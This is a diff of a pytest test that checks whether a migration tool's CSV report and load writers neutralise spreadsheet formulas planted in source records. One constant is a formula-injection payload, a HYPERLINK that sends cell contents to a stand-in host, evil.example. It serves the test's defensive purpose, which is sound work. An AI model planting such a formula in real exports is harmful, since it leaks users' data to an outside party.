@@ -13,6 +13,7 @@ from pathlib import Path
 import pytest
 
 from tests.freshsales_story import Migration
+from tests.project_snapshot import PROJECT_ENV, snapshot_project
 
 FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
 HYPERLINK = '=HYPERLINK("https://evil.example/?leak="&A1,"Click to verify")'
@@ -47,10 +48,13 @@ def _markdown_cells(path: Path) -> list[str]:
     return cells
 
 
-def test_formulas_planted_in_bizstim_reach_the_admin_as_text(migration):
+def test_formulas_planted_in_bizstim_reach_the_admin_as_text(migration, tmp_path):
     m = migration
+    # a snapshot of the dbt project: the load's gate compares the models with the build
+    env = {PROJECT_ENV: str(snapshot_project(tmp_path))}
     practitioner = m.mart("select min(id) from bizstim_raw.practitioners")[0][0]
-    client = m.mart("select min(client_id) from deliverables.deliverables__availability_guide")[0][0]
+    client = m.mart("select min(client_id) "
+                    "from deliverables.deliverables__availability_guide")[0][0]
     automation = m.mart("select min(id) from bizstim_raw.automations")[0][0]
     # what people typed into Bizstim
     m.execute("update bizstim_raw.automations set name = ?, template = ?, trigger = ? "
@@ -58,7 +62,7 @@ def test_formulas_planted_in_bizstim_reach_the_admin_as_text(migration):
     m.execute("update bizstim_raw.practitioners set first_name = ?, last_name = ? where id = ?",
               ["+1+1", "Smith", practitioner])
     m.execute("update bizstim_raw.clients set first_name = ? where id = ?", ["-2+3", client])
-    m.cli("transform", "--to", "freshsales")
+    m.cli("transform", "--to", "freshsales", env=env)
     # what survives no staging (tabs and CRs are trimmed there) still must not pass
     # through a writer, and a number the tool computed stays a number
     m.execute("update deliverables.deliverables__wage_reference set wage_tier = ?, "
@@ -69,7 +73,7 @@ def test_formulas_planted_in_bizstim_reach_the_admin_as_text(migration):
     m.execute("update quarantine.quarantine__all set reason = ? where source_id = "
               "(select min(source_id) from quarantine.quarantine__all)", [CMD])
 
-    m.cli("report", "--to", "freshsales", "--no-dbt-docs")
+    m.cli("report", "--to", "freshsales", "--no-dbt-docs", env=env)
     out = m.workspace / "reports" / "freshsales"
     csvs = sorted(out.rglob("*.csv"))
     assert {p.name for p in (out / "deliverables").glob("*.csv")} >= {
@@ -102,6 +106,6 @@ def test_formulas_planted_in_bizstim_reach_the_admin_as_text(migration):
     # a production load writes the same deliverables through the same writer
     for path in (out / "deliverables").iterdir():
         path.unlink()
-    m.cli("load", "--to", "freshsales", "--only", "product_categories")
+    m.cli("load", "--to", "freshsales", "--only", "product_categories", env=env)
     inventory = (out / "deliverables" / "automation_inventory.csv").read_text(encoding="utf-8")
     assert '"\'=HYPERLINK(' in inventory
